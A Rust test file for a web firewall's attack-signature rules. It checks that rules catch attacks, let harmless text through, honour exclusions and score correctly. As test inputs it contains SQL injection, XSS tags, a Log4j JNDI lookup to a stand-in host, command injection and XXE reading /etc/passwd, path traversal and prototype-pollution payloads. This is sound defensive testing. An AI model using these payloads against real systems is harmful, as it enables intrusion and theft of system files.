//! Every rule's own examples, and what a verdict says.

use proptest::prelude::*;

use super::detector::Detector;
use super::rule::built_in;
use super::*;
use crate::decode::{FormSet, Kinds};
use crate::detect::tests::Exchange;
use crate::detect::{Body, BodyStream, Detector as _, Head};

const TARGETS: [Target; 16] = [
    Target::Path,
    Target::Segment,
    Target::QueryValue,
    Target::QueryName,
    Target::BodyValue,
    Target::BodyName,
    Target::BodyText,
    Target::FileName,
    Target::FileContent,
    Target::CookieValue,
    Target::CookieName,
    Target::UserAgent,
    Target::Referer,
    Target::Header,
    Target::Query,
    Target::Credential,
];

/// One of the places where `rule` looks.
fn a_target(rule: &Rule) -> Target {
    TARGETS.into_iter().find(|target| rule.targets.contains(*target)).unwrap()
}

/// Whether `rule` alone matches `value` where it looks.
fn matches(rule: &Arc<Rule>, value: &str) -> bool {
    if let Some(mark) = rule.body_mark() {
        // A whole body: its content type, a line end, and the rest.
        let (content_type, content) = value.split_once('\n').unwrap();
        let limits = BodyLimits::default();
        let outcome =
            crate::body::fields(Some(content_type.as_bytes()), content.as_bytes(), &limits, &mut |_| {});
        return outcome.has(mark);
    }
    let set = RuleSet::new(vec![rule.clone()]).unwrap();
    let mut forms = Forms::default();
    let list = forms.of(value.as_bytes(), Kinds::of(value.as_bytes()), Place::Content, FormSet::ALL);
    let target = a_target(rule);
    let header = rule.headers.first().map_or("x-any", String::as_str);
    let mut matched = false;
    for (form, text) in list.iter() {
        set.judge(
            text,
            &set.candidates(text, target, &mut Occurrences::default()),
            || list.same_as(form),
            header,
            |_, range| {
                assert!(range.start <= range.end && range.end <= text.len(), "{}: {range:?}", rule.id);
                matched = true;
            },
        );
    }
    matched
}

fn signatures(settings: &AttackSignaturesSettings) -> AttackSignatures {
    AttackSignatures::new(settings, &[]).unwrap()
}

fn head_finding(signatures: &AttackSignatures, head: &Head<'_>) -> Option<Finding> {
    signatures.head(head, &mut None, &mut Found::default())
}

/// What is found in a JSON body.
fn json_finding(signatures: &AttackSignatures, body: &str) -> Option<Finding> {
    body_finding(signatures, "application/json", body.as_bytes())
}

/// What is found in a body, the same whole and in two chunks.
fn body_finding(signatures: &AttackSignatures, content_type: &str, body: &[u8]) -> Option<Finding> {
    Exchange::post("/api").header("content-type", content_type).head(|head| {
        let judge = |chunks: &[&[u8]]| {
            let mut found = Found::default();
            let mut finding = None;
            for (number, chunk) in chunks.iter().enumerate() {
                let body = Body {
                    request: head.request,
                    context: head.context,
                    chunk,
                    stream: BodyStream::Sent,
                    is_end: number + 1 == chunks.len(),
                };
                finding = finding.or_else(|| signatures.body(&body, &mut found));
            }
            finding
        };
        let (first, second) = body.split_at(body.len() / 2);
        let whole = judge(&[body]);
        assert_eq!(judge(&[first, second]), whole);
        whole
    })
}

fn rules_at(signatures: &AttackSignatures, path: &str) -> Vec<String> {
    match Exchange::get(path).head(|head| head_finding(signatures, head)).map(|finding| finding.reason) {
        Some(Reason::AttackSignatures { hits, .. }) => hits.iter().map(|hit| hit.rule.to_string()).collect(),
        _ => Vec::new(),
    }
}

#[test]
fn every_rule_matches_its_examples_and_passes_the_others() {
    let mut wrong = Vec::new();
    for rule in built_in() {
        for (examples, wanted) in [(&rule.examples.matches, true), (&rule.examples.passes, false)] {
            for example in examples.iter().filter(|example| matches(rule, example) != wanted) {
                wrong.push(format!(
                    "{} {} {example:?}",
                    rule.id,
                    if wanted { "misses" } else { "objects to" }
                ));
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn rules_are_disabled_demoted_and_excluded() {
    let path = "/x/' or 1=1--";
    let settings = AttackSignaturesSettings::default();
    let fired = rules_at(&signatures(&settings), path);
    assert!(fired.contains(&"sql-break-out".to_owned()), "{fired:?}");

    let disabled = AttackSignaturesSettings { disabled_rules: fired.clone(), ..settings.clone() };
    assert_eq!(rules_at(&signatures(&disabled), path), [""; 0]);
    let demoted = AttackSignaturesSettings { demoted_rules: fired.clone(), ..settings.clone() };
    assert_eq!(rules_at(&signatures(&demoted), path), [""; 0]);
    let categories = vec![AttackCategory::SqlInjection];
    let category = AttackSignaturesSettings { disabled_categories: categories, ..settings.clone() };
    assert_eq!(rules_at(&signatures(&category), path), [""; 0]);
    let lenient = AttackSignaturesSettings { inbound_threshold: 1000, ..settings.clone() };
    assert_eq!(rules_at(&signatures(&lenient), path), [""; 0]);

    let exclusion = |path: &str, category| SignatureExclusion {
        path: Some(path.to_owned()),
        category: Some(category),
        ..SignatureExclusion::default()
    };
    for (exclusion, excluded) in [
        (exclusion("/x/", AttackCategory::SqlInjection), true),
        (exclusion("/y/", AttackCategory::SqlInjection), false),
        (exclusion("/x/", AttackCategory::Probe), false),
    ] {
        let exclusions = vec![exclusion.clone()];
        let settings = AttackSignaturesSettings { exclusions, ..settings.clone() };
        assert_eq!(rules_at(&signatures(&settings), path).is_empty(), excluded, "{exclusion:?}");
    }
}

#[test]
fn own_rules_are_added_and_mistakes_are_named() {
    let rule = |id: &str| {
        format!(
            "category = \"probe\"\n[[rule]]\nid = \"{id}\"\ndescription = \"d\"\nwhy = \"w\"\nliterals = [\"teapot\"]\n\
             pattern = 'tea\\s*pot'\nmatches = [\"teapot\"]\npasses = [\"tea\"]\n"
        )
    };
    let settings = AttackSignaturesSettings::default();
    let own = AttackSignatures::new(&settings, &[("own.toml".into(), rule("own-teapot"))]).unwrap();
    assert_eq!(rules_at(&own, "/teapot"), ["own-teapot"]);

    let error = |settings: &AttackSignaturesSettings, text: String| {
        AttackSignatures::new(settings, &[("own.toml".into(), text)]).err().unwrap().to_string()
    };
    let taken = error(&settings, rule("sql-break-out"));
    assert!(taken.contains("own.toml") && taken.contains("another id"), "{taken}");
    let broken = error(&settings, rule("own-broken").replace("tea\\s*pot", "tea("));
    assert!(broken.contains("own-broken"), "{broken}");
    let unknown = AttackSignaturesSettings { disabled_rules: vec!["sql-break-ot".into()], ..settings };
    let unknown = error(&unknown, rule("own-teapot"));
    assert!(unknown.contains("did you mean `sql-break-out`"), "{unknown}");
}

#[test]
fn a_verdict_lists_every_rule_with_field_and_matched_part() {
    let finding = Exchange::get("/")
        .header("x-test", "${jndi:ldap://x.example/a}")
        .header("cookie", "a=1; b=<script>alert(1)</script>")
        .head(|head| head_finding(&signatures(&AttackSignaturesSettings::default()), head))
        .unwrap();
    let Reason::AttackSignatures { score, hits } = &finding.reason else { panic!("{:?}", finding.reason) };
    assert_eq!(*score, hits.iter().map(|hit| hit.severity.score()).sum::<u32>());
    let fields: Vec<_> = hits.iter().map(|hit| hit.matched.field.to_string()).collect();
    assert!(
        fields.contains(&"header x-test".to_owned()) && fields.contains(&"cookie b".to_owned()),
        "{fields:?}"
    );
    assert!(finding.reason.to_string().contains("log4j-lookup at header x-test"), "{}", finding.reason);
    assert_eq!(finding.matched.as_deref(), Some(&hits[0].matched));
}

#[test]
fn every_category_has_its_name() {
    for category in AttackCategory::ALL {
        let toml = format!("category = \"{category}\"\n");
        assert!(rule::parse("x.toml", &toml).is_ok(), "{category}");
    }
}

/// Values without other forms are let off by what such detectors find in the case as sent.
#[test]
fn detectors_that_read_any_case_find_the_same_in_any() {
    let read_any_case = [Detector::SqlBreakOut, Detector::SqlExpression, Detector::HtmlActiveContent]
        .into_iter()
        .filter(|detector| detector.reads_any_case());
    for detector in read_any_case {
        for example in
            built_in().iter().flat_map(|rule| [&rule.examples.matches, &rule.examples.passes]).flatten()
        {
            let mixed: Vec<u8> = example
                .bytes()
                .enumerate()
                .map(
                    |(at, byte)| {
                        if at % 2 == 0 { byte.to_ascii_uppercase() } else { byte.to_ascii_lowercase() }
                    },
                )
                .collect();
            let lower = detector.find(example.to_ascii_lowercase().as_bytes());
            assert_eq!(
                detector.find(example.to_ascii_uppercase().as_bytes()),
                lower,
                "{detector:?} {example:?}"
            );
            assert_eq!(detector.find(&mixed), lower, "{detector:?} {example:?}");
        }
    }
}

/// A pattern that matches while its literals or next words are missing finds nothing in a real request.
#[test]
fn literals_and_next_words_hide_nothing_that_a_pattern_matches() {
    let mut hidden = Vec::new();
    for rule in built_in().iter().filter(|rule| rule.has_pattern()) {
        let set = RuleSet::new(vec![rule.clone()]).unwrap();
        for example in built_in().iter().flat_map(|other| &other.examples.matches) {
            let mut forms = Forms::default();
            let kinds = Kinds::of(example.as_bytes());
            let list = forms.of(example.as_bytes(), kinds, Place::Content, FormSet::ALL);
            for (form, text) in list.iter() {
                let also = list.same_as(form);
                let matches = rule.regex().is_some_and(|pattern| pattern.is_match(text));
                let target = a_target(rule);
                let is_tried = !set.candidates(text, target, &mut Occurrences::default()).is_empty();
                if rule.forms.overlaps(also) && matches && !is_tried {
                    hidden.push(format!("{} {example:?}", rule.id));
                }
            }
        }
    }
    assert!(hidden.is_empty(), "{}", hidden.join("\n"));
}

#[test]
fn names_of_json_within_one_another_are_judged_together() {
    let signatures = signatures(&AttackSignaturesSettings::default());
    let is_denied = |body: &str| json_finding(&signatures, body).is_some();
    let behind_a_long_name = format!(r#"{{"{}":{{"constructor":{{"prototype":{{}}}}}}}}"#, "k".repeat(300));
    for attack in [
        &*behind_a_long_name,
        r#"{"constructor":{"prototype":{"isAdmin":true}}}"#,
        r#"{"prototype":0,"a":[{"constructor":{"prototype":{"x":1}}}]}"#,
    ] {
        assert!(is_denied(attack), "{attack}");
    }
    for honest in [
        r#"{"constructor":{"name":"x"},"prototype":{"version":2}}"#,
        r#"{"constructor":[{"name":"prototype"}]}"#,
        r#"[{"constructor":"x"},{"prototype":"y"}]"#,
        r#"{"prototype":{"constructor":"x"}}"#,
    ] {
        assert!(!is_denied(honest), "{honest}");
    }
}

/// A value without other forms may be let off as it was sent, where its capitals still stand.
#[test]
fn tags_in_capitals_are_found() {
    let signatures = signatures(&AttackSignaturesSettings::default());
    for tag in [
        "<SCRIPT SRC=x>",
        "<OBJECT DATA=x>",
        "<IFRAME SRC=x>",
        "<BASE HREF=x>",
        "<LINK REL=STYLESHEET HREF=x>",
    ] {
        let body = format!(r#"{{"a":"{tag}"}}"#);
        assert!(json_finding(&signatures, &body).is_some(), "{tag}");
    }
}

/// Values that requests are made of: honest ones, attacks, and what rules match only beside another header.
const FIELDS: [(&str, &str); 20] = [
    ("path", "/a/b"),
    ("path", "/x/' or 1=1--"),
    ("host", "www.example.com"),
    ("host", "www.example.org"),
    ("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    ("User-Agent", "sqlmap/1.8"),
    ("user-agent", "${jndi:ldap://x.example/a}"),
    ("accept", "text/html,*/*;q=0.8"),
    ("accept", "<script>alert(1)</script>"),
    ("sec-fetch-dest", "document"),
    ("sec-fetch-dest", "image"),
    ("referer", "https://www.example.com/?q=a"),
    ("referer", "https://www.example.org/?q=<script>alert(1)</script>"),
    ("cookie", "a=1; b=2"),
    ("cookie", "a=1; b=<script>alert(1)</script>"),
    ("Cookie", "a=';cat /etc/passwd"),
    ("authorization", "Bearer ' or 1=1--"),
    ("x-note", "hello"),
    ("x-note", "${jndi:ldap://x.example/a}"),
    ("x-other", "hello"),
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn memory_of_clean_values_changes_no_finding(
        requests in proptest::collection::vec(
            (proptest::collection::vec(0..FIELDS.len(), 0..7), any::<bool>()),
            1..40,
        ),
    ) {
        let settings = AttackSignaturesSettings {
            demoted_rules: vec!["html-active-content".into()],
            exclusions: vec![SignatureExclusion { path: Some("/a/".into()), ..SignatureExclusion::default() }],
            ..AttackSignaturesSettings::default()
        };
        let remembering = signatures(&settings);
        let mut cookie = CleanCookie::default();
        for (fields, asset) in requests.iter().chain(&requests) {
            let fields: Vec<_> = fields.iter().map(|field| FIELDS[*field]).collect();
            let path = fields.iter().find(|(name, _)| *name == "path").map_or("/", |(_, path)| path);
            let headers = fields.iter().filter(|(name, _)| *name != "path");
            let request = headers.fold(Exchange::get(path), |request, (name, value)| request.header(name, value));
            request.asset(*asset).head(|head| {
                let fresh = head_finding(&signatures(&settings), head);
                let found = remembering.judge_head(head, &mut cookie, &mut Found::default());
                prop_assert_eq!(format!("{:?}", found), format!("{:?}", fresh));
                Ok(())
            })?;
        }
    }
}

#[test]
fn cookies_are_judged_once_for_a_client() {
    let signatures = signatures(&AttackSignaturesSettings::default());
    let judge = |cookies: &[&str], cookie: &mut CleanCookie| {
        let request = Exchange::get("/");
        let request = cookies.iter().fold(request, |request, value| request.header("cookie", value));
        request.head(|head| signatures.judge_head(head, cookie, &mut Found::default()).is_some())
    };
    let mut cookie = CleanCookie::default();
    assert!(!judge(&["a=1", "b=2"], &mut cookie));
    let clean = cookie;
    assert_ne!(clean, CleanCookie::default());
    // The same again, none, or an attack leave it as it is.
    assert!(!judge(&["a=1", "b=2"], &mut cookie) && !judge(&[], &mut cookie));
    assert!(judge(&["a=1", "b=<script>alert(1)</script>"], &mut cookie));
    assert_eq!(cookie, clean);
    assert!(!judge(&["a=1; b=2"], &mut cookie));
    assert_ne!(cookie, clean);
}

/// A full list of hits ends the judgment: what comes after it is unknown, not clean.
#[test]
fn what_is_not_judged_is_not_remembered() {
    let signatures = signatures(&AttackSignaturesSettings::default());
    let attacks = built_in().iter().flat_map(|rule| &rule.examples.matches);
    let attacks = attacks.map(String::as_str).collect::<Vec<_>>().join("/");
    let note = "${jndi:ldap://x.example/a}";
    for path in ["/", &attacks, &attacks, &attacks, "/"] {
        let denied = Exchange::get(path)
            .header("accept", note)
            .header("x-note", note)
            .head(|head| head_finding(&signatures, head).is_some());
        assert!(denied);
    }
}

/// Judges a request with a form of one field.
fn rules_at_text(text: &str) -> Vec<String> {
    let signatures = signatures(&AttackSignaturesSettings::default());
    let body = format!("text={}", form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>());
    let finding = body_finding(&signatures, "application/x-www-form-urlencoded", body.as_bytes());
    match finding.map(|finding| finding.reason) {
        Some(Reason::AttackSignatures { hits, .. }) => hits.iter().map(|hit| hit.rule.to_string()).collect(),
        _ => Vec::new(),
    }
}

#[test]
fn mention_in_prose_is_allowed() {
    for text in [
        "Please have a look at /var/log/nginx/error.log, there is a line about /etc/shadow",
        "/etc/passwd is readable by everybody on that box",
        "import { Card } from '../../../ui/Card'",
        "#include \"../../../inc/util.h\"",
        "see [the guide](../../../docs/guide.md)",
        "`docker ps | wc -l`",
        "Run `npm ci && npm run build` before you push",
        "git add -A && git commit",
        "What does `curl -fsSL https://get.example.com | sh` do?",
        "content:\") Select(\" lang:go",
        "The <button onclick=\"save()\"> does nothing when people click it",
        "Notes:\nimport x from '../../../lib/x'\nsee ../README.md and ../../etc\n",
    ] {
        assert_eq!(rules_at_text(text), [""; 0], "{text}");
    }
}

#[test]
fn attack_beside_mention_is_found() {
    for text in [
        "/etc/passwd",
        "../../notes.txt",
        "the file /etc/passwd is here; cat /etc/passwd",
        "see `ls | sort` in the manual;id;cat /etc/passwd",
        "import x from '../../../../etc/passwd'",
        "hello <button onclick=\"alert(1)\"> my friend, how are you",
        "8.8.8.8; git log; cat /etc/passwd",
    ] {
        assert_ne!(rules_at_text(text), [""; 0], "{text}");
    }
}

#[test]
fn mentions_count_as_one_notice() {
    let text = "the accounts are in /etc/passwd and the keys in web.config there, see `ls | sort` for the rest of it";
    let strict = AttackSignaturesSettings { inbound_threshold: 3, ..AttackSignaturesSettings::default() };
    let finding = |settings: &AttackSignaturesSettings| {
        let signatures = signatures(settings);
        body_finding(&signatures, "text/plain", text.as_bytes())
    };
    assert!(finding(&strict).is_none());
    let stricter = AttackSignaturesSettings { inbound_threshold: 2, ..strict };
    let Some(Reason::AttackSignatures { score, hits }) = finding(&stricter).map(|finding| finding.reason)
    else {
        panic!("nothing was found");
    };
    assert_eq!(score, 2);
    assert!(hits.iter().all(|hit| hit.is_mention));
}

/// Found by fuzzing: the mention's points stayed when a match of the same rule took its place in the list.
#[test]
fn a_match_takes_the_points_of_a_mention_too() {
    let mut settings = crate::Settings::default();
    settings.attack_signatures.paranoia_level = 4;
    let engine =
        crate::Engine::builder().settings(settings).only([Protection::AttackSignatures]).build().unwrap();
    let body =
        b"<!DOCTE PEa [\x87!ENTITY b S\x83YSTEM \"file:///etc/passwd\">]octy1/b&;\"\0\0\xff\xff\0\x9e\0<>";
    let headers = [("content-type", "application/xml")];
    let request = crate::Request::new([203, 0, 113, 1].into(), crate::Timestamp::from_unix_seconds(1.7e9));
    let verdict =
        engine.inspect(&request.with_method("POST").with_path("/").with_headers(&headers).with_body(body));
    let reason = verdict.finding.unwrap().reason;
    let Reason::AttackSignatures { score, hits } = reason else { panic!("{reason:?}") };
    assert!(hits.iter().all(|hit| !hit.is_mention), "{hits:?}");
    assert_eq!(score, hits.iter().map(|hit| hit.severity.score()).sum::<u32>());
}

#[test]
fn basic_credentials_are_judged() {
    use base64::Engine;
    let signatures = signatures(&AttackSignaturesSettings::default());
    let is_blocked = |header: &'static str, credentials: &str| {
        let encoded = base64::engine::general_purpose::STANDARD.encode(credentials);
        Exchange::get("/")
            .header(header, &format!("Basic {encoded}"))
            .head(|head| head_finding(&signatures, head))
            .is_some()
    };
    for attack in
        ["' or 1=1--:x", "x:' or '1'='1", "a:;cat /etc/passwd", "../../../etc/passwd:x", "x:<script>alert(1)"]
    {
        assert!(is_blocked("authorization", attack), "{attack}");
        assert!(is_blocked("proxy-authorization", attack), "{attack}");
    }
    for honest in ["user:pass", "o'neill:it's me", "svc:Zx9!$&*()-=", "ann:a;b|c", ":", ""] {
        assert!(!is_blocked("authorization", honest), "{honest}");
    }
}

/// No threshold is out of reach for a request with many matches.
#[test]
fn score_counts_hits_beyond_those_listed() {
    let settings = AttackSignaturesSettings { inbound_threshold: 100, ..AttackSignaturesSettings::default() };
    let signatures = signatures(&settings);
    let query = built_in()
        .iter()
        .filter_map(|rule| rule.examples.matches.first())
        .enumerate()
        .map(|(index, example)| {
            format!("p{index}={}", form_urlencoded::byte_serialize(example.as_bytes()).collect::<String>())
        })
        .collect::<Vec<_>>()
        .join("&");
    let finding = Exchange::get(format!("/?{query}")).head(|head| head_finding(&signatures, head));
    let Some(Reason::AttackSignatures { score, hits }) = finding.map(|finding| finding.reason) else {
        panic!("nothing was found");
    };
    assert!(score >= 100, "{score}");
    assert_eq!(hits.len(), MAX_HITS);
}
